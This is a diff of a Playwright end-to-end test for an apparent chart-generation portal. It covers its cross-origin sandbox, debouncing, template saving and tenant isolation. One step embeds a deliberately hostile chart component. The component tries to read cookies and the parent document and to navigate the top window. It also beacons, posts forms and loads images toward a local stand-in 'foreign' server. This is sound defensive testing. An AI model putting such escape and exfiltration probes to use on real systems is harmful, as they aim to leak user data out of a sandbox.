@@ -3,12 +3,13 @@
 // the recommender's chart without a model, a parameter change re-rendering without a new query, a question
 // answered by the model with thoughts and code streamed, save and reopen, sandbox escape attempts, a component
 // that throws, and bob (another tenant) not seeing the template. AIDE_GATEWAY_URL (default http://127.0.0.1:8080 + AIDE_PORT_OFFSET).
+// Each step is a testcase of target/failsafe-reports/TEST-web-ui-viz-e2e.xml, counted by ./aide test.
 import { chromium } from 'playwright-core';
 import { existsSync, readFileSync } from 'node:fs';
 import http from 'node:http';
 import { dirname, resolve } from 'node:path';
 import { fileURLToPath } from 'node:url';
-import { gatewayUrl, signIn, stepRunner } from './harness.mjs';
+import { gatewayUrl, signIn, stepRunner, writeJUnitReport } from './harness.mjs';
 
 const HERE = dirname(fileURLToPath(import.meta.url));
 const ROOT = resolve(HERE, '../..');
@@ -48,16 +49,28 @@ const COMPONENT = [
   '```',
 ];
 const modelRequests = [];
+// what reached this server from a chart sandbox trying to get out (an image, a form, a popup, a beacon): must stay empty
+const escapes = [];
+const pause = (ms) => new Promise((r) => setTimeout(r, ms));
 const model = http.createServer((req, res) => {
+  if (req.url.startsWith('/escape/')) {
+    escapes.push(`${req.method} ${req.url}`);
+    res.writeHead(200, { 'Content-Type': 'text/plain', 'Access-Control-Allow-Origin': '*' });
+    res.end('escaped');
+    return;
+  }
   let body = '';
   req.on('data', (c) => (body += c));
-  req.on('end', () => {
+  req.on('end', async () => {
     modelRequests.push(body);
     const parsed = JSON.parse(body || '{}');
     if (parsed.stream) {
       res.writeHead(200, { 'Content-Type': 'text/event-stream' });
+      // a question asked "slowly" gets its component over about 3 s, so the page can be watched while it streams
+      const slow = body.includes('slowly');
       for (const piece of COMPONENT) {
         res.write(`data: ${JSON.stringify({ id: 'c1', object: 'chat.completion.chunk', created: 1700000000, model: 'scripted', choices: [{ index: 0, delta: { content: piece } }] })}\n\n`);
+        if (slow) await pause(250);
       }
       res.end(`data: ${JSON.stringify({ id: 'c1', object: 'chat.completion.chunk', created: 1700000000, model: 'scripted', choices: [{ index: 0, delta: {}, finish_reason: 'stop' }], usage: { prompt_tokens: 10, completion_tokens: 20, total_tokens: 30 } })}\n\ndata: [DONE]\n\n`);
       return;
@@ -69,6 +82,8 @@ const model = http.createServer((req, res) => {
 });
 await new Promise((r) => model.listen(0, '127.0.0.1', r));
 const MODEL_URL = `http://127.0.0.1:${model.address().port}/v1`;
+// a server the chart sandbox must never reach (the scripted model's, on 127.0.0.1 where the sandbox is localhost)
+const FOREIGN = `http://127.0.0.1:${model.address().port}`;
 
 const browser = await chromium.launch({
   executablePath: CHROMIUM,
@@ -118,6 +133,25 @@ async function api(page, method, path, body) {
 }
 
 const chart = (page) => page.frameLocator('[data-testid="viz-sandbox"]');
+const rendersOf = async (page) => Number(await page.getByTestId('viz-renders').innerText());
+
+async function until(what, condition, ms = TIMEOUT) {
+  const end = Date.now() + ms;
+  while (!(await condition())) {
+    if (Date.now() > end) throw new Error(`not within ${ms} ms: ${what}`);
+    await pause(50);
+  }
+}
+
+/** Charts the SQL without a model (the form's SQL, the question cleared) and waits for the run's figure. */
+async function chartSql(page, sql, chartType) {
+  await page.goto(`${GATEWAY}/viz`);
+  await page.locator('select[name="dataSourceId"]').selectOption(dataSourceId);
+  await page.locator('input[name="question"]').fill('');
+  await page.locator('textarea[name="sql"]').fill(sql);
+  await page.getByRole('button', { name: 'Generate' }).click();
+  await chart(page).locator(`figure[data-chart="${chartType}"]`).waitFor();
+}
 
 let exit = 0;
 let templateId;
@@ -139,7 +173,7 @@ try {
     dataSourceId = answer.body.dataSourceId;
   });
 
-  await step('without a model, the recommender charts the SQL in the sandbox on another origin', async () => {
+  await step('without a model, the recommender charts the SQL in the sandbox on another origin (allow-scripts, a policy without network)', async () => {
     await page.goto(`${GATEWAY}/viz`);
     await page.locator('select[name="dataSourceId"]').selectOption(dataSourceId);
     await page.locator('input[name="question"]').fill('Orders per status');
@@ -155,23 +189,70 @@ try {
     const src = await page.getByTestId('viz-sandbox').getAttribute('src');
     check(new URL(src).origin !== new URL(GATEWAY).origin, `the sandbox is on the portal's own origin (${src})`);
     check((await page.getByTestId('viz-sandbox').getAttribute('sandbox')) === 'allow-scripts', 'the frame is not sandbox="allow-scripts"');
+    // the frame's page forbids every connection, form and foreign image, and may be framed by the portal only; its
+    // origin serves no API
+    const framed = await page.request.get(src);
+    const policy = framed.headers()['content-security-policy'] ?? '';
+    for (const directive of ["default-src 'none'", "connect-src 'none'", "form-action 'none'", 'img-src data: blob:', 'frame-ancestors ']) {
+      check(policy.includes(directive), `the sandbox page's policy lacks ${directive}: ${policy}`);
+    }
+    const apiThere = await page.request.get(new URL('/api/v1/viz/templates', src).href);
+    check(apiThere.status() === 404, `the sandbox origin answered ${apiThere.status()} for /api/v1/viz/templates`);
   });
 
   await step('a parameter change re-renders the chart without a new query', async () => {
     const requests = [];
     const listen = (r) => requests.push(r.url());
     page.on('request', listen);
-    const before = Number(await page.getByTestId('viz-renders').innerText());
+    const before = await rendersOf(page);
     await page.locator('select[name="chart_type"]').selectOption('line');
     await chart(page).locator('figure[data-chart="line"] path[data-line]').waitFor();
-    await page.locator('input[name="title"]').fill('Orders by status, as a line');
+    await until('the line chart is counted as a render', async () => (await rendersOf(page)) > before);
+    // typed one key at a time, 40 ms apart: the chart renders once, 300 ms after the last key (the debounce)
+    const typing = await rendersOf(page);
+    const title = page.locator('input[name="title"]');
+    await title.selectText();
+    await title.pressSequentially('Orders by status, as a line', { delay: 40 });
+    const typed = Date.now();
     await chart(page).getByText('Orders by status, as a line').waitFor();
+    const shownAfter = Date.now() - typed;
+    await pause(700);
     page.off('request', listen);
-    const after = Number(await page.getByTestId('viz-renders').innerText());
-    check(after > before, `the sandbox did not report a new render (${before} -> ${after})`);
+    const after = await rendersOf(page);
+    // one render measured in every run; a second is tolerated for a browser stalled over 300 ms between two keys
+    check(after - typing >= 1 && after - typing <= 2, `27 keys gave ${after - typing} renders, not one (debounce)`);
+    console.log(`       title typed: ${after - typing} render(s), shown ${shownAfter} ms after the last key`);
+    check(shownAfter >= 250, `the new title showed ${shownAfter} ms after the last key, before the 300 ms debounce`);
     const api = requests.filter((u) => u.includes('/api/'));
     check(api.length === 0, `the parameter change sent requests: ${api.join(', ')}`);
-    check(!(await page.locator('fieldset.viz-params').isDisabled()), 'the parameters stay disabled after the run');
+    check((await page.locator('fieldset.viz-params').getAttribute('disabled')) === null && !(await page.locator('input[name="title"]').isDisabled()), 'the parameters stay disabled after the run');
+  });
+
+  let largeUrl;
+  await step('a large result comes as Parquet by URL, is checked and charted in the sandbox', async () => {
+    const payments = readFileSync(resolve(SOURCES, 'raw_payments.csv'), 'utf8').trim().split('\n').length - 1;
+    const fetched = page.waitForResponse((r) => r.url().includes('/api/v1/viz/data/'));
+    await chartSql(page, 'SELECT p.id, p.amount FROM raw_payments p, range(8) r ORDER BY 1', 'scatter');
+    const response = await fetched;
+    largeUrl = new URL(response.url()).pathname;
+    check(response.headers()['content-type']?.startsWith('application/vnd.apache.parquet'), `the data came as ${response.headers()['content-type']}`);
+    await page.getByTestId('viz-status').getByText(`${8 * payments} rows (large, parquet)`).waitFor();
+    const points = await chart(page).locator('[data-point]').count();
+    check(points === 8 * payments, `the scatter shows ${points} points of ${8 * payments} rows`);
+  });
+
+  await step('without a model, each result shape gets its chart (kpi, bar, area, line, table)', async () => {
+    const shapes = [
+      ['SELECT count(*) AS orders FROM raw_orders', 'kpi'],
+      ['SELECT status, count(*) AS orders FROM raw_orders GROUP BY status', 'bar'],
+      ['SELECT order_date, count(*) AS orders FROM raw_orders GROUP BY order_date ORDER BY order_date', 'area'],
+      ['SELECT order_date, count(*) AS orders, count(DISTINCT user_id) AS customers FROM raw_orders GROUP BY order_date', 'line'],
+      ['SELECT first_name, last_name FROM raw_customers', 'table'],
+    ];
+    for (const [sql, chartType] of shapes) {
+      await chartSql(page, sql, chartType);
+      check((await page.locator('select[name="chart_type"]').inputValue()) === chartType, `the chart type control does not say ${chartType} for ${sql}`);
+    }
   });
 
   await step('with the scripted model, a question streams thoughts and code, and the model\'s component renders', async () => {
@@ -185,7 +266,6 @@ try {
     await page.locator('input[name="question"]').fill('How many orders are there of each status?');
     const asked = Date.now();
     await page.getByRole('button', { name: 'Generate' }).click();
-    await page.getByTestId('viz-generating').waitFor({ state: 'attached' }).catch(() => undefined);
     await chart(page).locator('figure[data-model-component] rect[data-bar]').first().waitFor();
     console.log(`       question to first rendered chart: ${Date.now() - asked} ms`);
     const thoughts = await page.getByTestId('viz-thoughts').innerText();
@@ -196,7 +276,24 @@ try {
     check((await page.locator('textarea[name="sql"]').inputValue()) === SQL, 'the generated SQL is not shown');
   });
 
-  await step('alice saves the chart as a template and reopens it after a reload, re-run on fresh data', async () => {
+  await step('while the run streams the parameters are disabled ("Generating..."), then enabled', async () => {
+    await page.goto(`${GATEWAY}/viz`);
+    await page.locator('select[name="dataSourceId"]').selectOption(dataSourceId);
+    await page.locator('input[name="question"]').fill('How many orders are there of each status? Answer slowly.');
+    await page.getByRole('button', { name: 'Generate' }).click();
+    await page.getByTestId('viz-generating').waitFor();
+    // the component is half written: code shown, generation still running
+    await page.getByTestId('viz-code').getByText('export default function Viz').waitFor();
+    check(!(await page.getByTestId('viz-code').innerText()).trimEnd().endsWith('}'), 'the whole component arrived before it could be watched streaming');
+    check((await page.locator('fieldset.viz-params').getAttribute('disabled')) !== null, 'the parameters are enabled while the code streams');
+    check(await page.locator('input[name="title"]').isDisabled(), 'the title can be edited while the code streams');
+    check((await page.getByTestId('viz-generating').innerText()) === 'Generating...', 'no "Generating..." while streaming');
+    await page.getByTestId('viz-generating').waitFor({ state: 'detached' });
+    check((await page.locator('fieldset.viz-params').getAttribute('disabled')) === null && !(await page.locator('input[name="title"]').isDisabled()), 'the parameters stay disabled after the run');
+    await chart(page).locator('figure[data-model-component] rect[data-bar]').first().waitFor();
+  });
+
+  await step('alice saves the streamed chart as a template and reopens it after a reload, re-run on fresh data', async () => {
     await page.locator('input[name="title"]').fill('Orders per status (saved)');
     await page.getByRole('button', { name: 'Save template' }).click();
     await page.waitForURL(/\/viz\/[0-9a-f-]{36}$/);
@@ -208,10 +305,26 @@ try {
     await chart(page).locator('figure[data-model-component] rect[data-bar]').first().waitFor();
     // this template's own entry (earlier runs on the same database may have saved the same question)
     const entry = page.getByTestId('viz-templates').locator(`a[href$="/viz/${templateId}"]`);
-    check((await entry.innerText()) === 'How many orders are there of each status?', 'the saved template is not listed with its question');
+    check((await entry.innerText()) === 'How many orders are there of each status? Answer slowly.', 'the saved template is not listed with its question');
   });
 
-  await step('escape attempts from the sandbox (fetch, parent.document, cookies, top.location) all fail', async () => {
+  await step('alice changes the saved template (PUT) and the change survives a reload', async () => {
+    const created = await api(page, 'GET', `/api/v1/viz/templates/${templateId}`);
+    await chart(page).getByText('Orders per status (saved)').waitFor();
+    await page.locator('input[name="title"]').fill('Orders per status (changed)');
+    await page.locator('select[name="color_scheme"]').selectOption('warm');
+    const put = page.waitForResponse((r) => r.url().endsWith(`/api/v1/viz/templates/${templateId}`) && r.request().method() === 'PUT');
+    await page.getByRole('button', { name: 'Save changes' }).click();
+    check((await put).status() === 200, `saving the change answered ${(await put).status()}`);
+    await page.reload();
+    await chart(page).getByText('Orders per status (changed)').waitFor();
+    check((await page.locator('select[name="color_scheme"]').inputValue()) === 'warm', 'the colour scheme was not kept');
+    const changed = await api(page, 'GET', `/api/v1/viz/templates/${templateId}`);
+    check(changed.body.parameters.title === 'Orders per status (changed)' && changed.body.parameters.color_scheme === 'warm', `stored parameters: ${JSON.stringify(changed.body.parameters)}`);
+    check(changed.body.created_at === created.body.created_at && changed.body.updated_at > created.body.updated_at, `created_at/updated_at: ${created.body.created_at}/${created.body.updated_at} -> ${changed.body.created_at}/${changed.body.updated_at}`);
+  });
+
+  await step('escape attempts from the sandbox (fetch, parent.document, cookies, top.location, window.open, a beacon, an image and a form to a foreign server) all fail', async () => {
     const hostile = `export default function Viz({ data, params }) {
   const [net, setNet] = React.useState('pending');
   React.useEffect(() => {
@@ -222,20 +335,44 @@ try {
   const cookie = probe(() => document.cookie);
   const topLoc = probe(() => window.top.location.href);
   const nav = probe(() => { window.top.location = 'https://example.com/'; return 'navigated'; });
+  const popup = probe(() => { const w = window.open('${FOREIGN}/escape/open', '_blank'); if (w === null) throw { name: 'no window' }; return 'opened'; });
+  const beacon = probe(() => navigator.sendBeacon('${FOREIGN}/escape/beacon', 'secret'));
+  const [img, setImg] = React.useState('pending');
+  const [posted, setPosted] = React.useState('pending');
+  const form = React.useRef(null);
+  React.useEffect(() => {
+    try { form.current.submit(); setTimeout(() => setPosted('blocked: the frame stayed'), 700); } catch (e) { setPosted('blocked: ' + e.name); }
+  }, []);
   return <ul>
     <li data-probe="fetch">{net}</li><li data-probe="parent">{parentDoc}</li>
     <li data-probe="cookie">{cookie}</li><li data-probe="top">{topLoc}</li><li data-probe="nav">{nav}</li>
+    <li data-probe="popup">{popup}</li><li data-probe="beacon">{beacon}</li>
+    <li data-probe="img">{img}<img alt="" src="${FOREIGN}/escape/pixel.png" onError={() => setImg('blocked: error')} onLoad={() => setImg('reached: loaded')} /></li>
+    <li data-probe="form">{posted}<form ref={form} method="post" action="${FOREIGN}/escape/form"><input name="secret" defaultValue="data" /></form></li>
   </ul>;
 }`;
     const saved = await api(page, 'POST', '/api/v1/viz/templates', { prompt: 'escape attempts', generated_sql: SQL, ui_code: hostile, parameters: {}, data_source: 'duckdb', data_source_id: dataSourceId, data_url: null });
     check(saved.status === 201, `saving the hostile template answered ${saved.status}`);
+    // the browser reports even the requests its policy blocks; a response would mean one got out
+    const outbound = [];
+    const watch = (r) => {
+      if (r.url().startsWith(FOREIGN)) outbound.push(`${r.status()} ${r.url()}`);
+    };
+    page.on('response', watch);
     await page.goto(`${GATEWAY}/viz/${saved.body.id}`);
     const frame = chart(page);
-    await frame.locator('[data-probe="fetch"]').filter({ hasNotText: 'pending' }).waitFor();
-    for (const probe of ['fetch', 'parent', 'cookie', 'top']) {
+    for (const probe of ['fetch', 'img', 'form']) {
+      await frame.locator(`[data-probe="${probe}"]`).filter({ hasNotText: 'pending' }).waitFor();
+    }
+    await pause(1000);
+    page.off('response', watch);
+    for (const probe of ['fetch', 'parent', 'cookie', 'top', 'popup', 'img', 'form']) {
       const text = await frame.locator(`[data-probe="${probe}"]`).innerText();
       check(text.startsWith('blocked'), `${probe}: ${text}`);
     }
+    check(escapes.length === 0, `requests from the sandbox reached a foreign server: ${escapes.join(', ')}`);
+    check(outbound.length === 0, `the browser got answers from a foreign server: ${outbound.join(', ')}`);
+    check(page.context().pages().length === 1, `a window was opened: ${page.context().pages().map((p) => p.url()).join(', ')}`);
     const nav = await frame.locator('[data-probe="nav"]').innerText();
     check(new URL(page.url()).origin === new URL(GATEWAY).origin && page.url().includes('/viz/'), `top navigation happened (${nav}); the page is at ${page.url()}`);
     await api(page, 'DELETE', `/api/v1/viz/templates/${saved.body.id}`);
@@ -250,15 +387,51 @@ try {
   });
   await aliceContext.close();
 
-  await step('bob (another tenant) sees neither the template nor its data', async () => {
+  await step('carol (alice\'s tenant) finds the template in her list and opens its chart', async () => {
+    const { context, page: carol } = await newPage();
+    await signIn(carol, GATEWAY, 'carol');
+    await carol.goto(`${GATEWAY}/viz`);
+    await carol.getByTestId('viz-templates').locator(`a[href$="/viz/${templateId}"]`).click();
+    await chart(carol).getByText('Orders per status (changed)').waitFor();
+    await chart(carol).locator('figure[data-model-component] rect[data-bar]').first().waitFor();
+    await context.close();
+  });
+
+  await step('bob (another tenant) sees neither the template nor its data, JSON or Parquet, nor runs on her data source', async () => {
     const { context, page: bob } = await newPage();
     await signIn(bob, GATEWAY, 'bob');
     const one = await api(bob, 'GET', `/api/v1/viz/templates/${templateId}`);
     check(one.status === 404, `bob's read of alice's template answered ${one.status}`);
+    const parquet = await bob.evaluate(async (url) => (await fetch(url, { credentials: 'same-origin' })).status, largeUrl);
+    check(parquet === 404, `bob's read of alice's Parquet result answered ${parquet}`);
+    const changed = await api(bob, 'PUT', `/api/v1/viz/templates/${templateId}`, { prompt: 'mine now', generated_sql: SQL, ui_code: 'export default function Viz() { return null; }', parameters: {}, data_source: 'duckdb' });
+    const removed = await api(bob, 'DELETE', `/api/v1/viz/templates/${templateId}`);
+    check(changed.status === 404 && removed.status === 404, `bob's PUT and DELETE of alice's template answered ${changed.status}, ${removed.status}`);
+    // a template of his own naming alice's data source runs nothing of hers
+    const own = await api(bob, 'POST', '/api/v1/viz/templates', { prompt: 'on alice\'s data', generated_sql: SQL, ui_code: 'export default function Viz() { return null; }', parameters: {}, data_source: 'duckdb', data_source_id: dataSourceId, data_url: null });
+    check(own.status === 201, `bob's own template answered ${own.status}`);
+    const ran = await api(bob, 'POST', `/api/v1/viz/templates/${own.body.id}/run`);
+    await api(bob, 'DELETE', `/api/v1/viz/templates/${own.body.id}`);
+    check(ran.status === 422 && ran.body.code === 'viz_query_failed' && ran.body.detail.includes('in your tenant'), `running it on alice's data source answered ${ran.status}: ${JSON.stringify(ran.body)}`);
     const list = await api(bob, 'GET', '/api/v1/viz/templates');
     check(list.status === 200 && !list.body.some((t) => t.id === templateId), 'alice\'s template is in bob\'s list');
     await bob.goto(`${GATEWAY}/viz/${templateId}`);
     await bob.getByText('No such template in your tenant.').waitFor();
+    await context.close();
+  });
+
+  await step('alice deletes the template: gone from the list, its URL answers 404', async () => {
+    const { context, page: alice } = await newPage();
+    await signIn(alice, GATEWAY, 'alice');
+    await alice.goto(`${GATEWAY}/viz/${templateId}`);
+    await chart(alice).getByText('Orders per status (changed)').waitFor();
+    const deleted = alice.waitForResponse((r) => r.url().endsWith(`/api/v1/viz/templates/${templateId}`) && r.request().method() === 'DELETE');
+    await alice.getByRole('button', { name: 'Delete template' }).click();
+    check((await deleted).status() === 204, `the delete answered ${(await deleted).status()}`);
+    await alice.waitForURL(/\/viz$/);
+    check((await alice.getByTestId('viz-templates').locator(`a[href$="/viz/${templateId}"]`).count()) === 0, 'the deleted template is still listed');
+    const gone = await api(alice, 'GET', `/api/v1/viz/templates/${templateId}`);
+    check(gone.status === 404, `reading the deleted template answered ${gone.status}`);
     await context.close();
   });
 } catch (e) {
@@ -275,6 +448,7 @@ try {
   await browser.close();
   model.close();
 }
+writeJUnitReport('viz', results);
 const failed = results.filter((r) => !r.ok).length;
 console.log(`viz browser suite: ${results.length - failed} passed, ${failed} failed in ${((Date.now() - started) / 1000).toFixed(1)} s${pageErrors.length ? `; page errors: ${pageErrors.join(' | ')}` : ''}`);
 process.exit(exit);
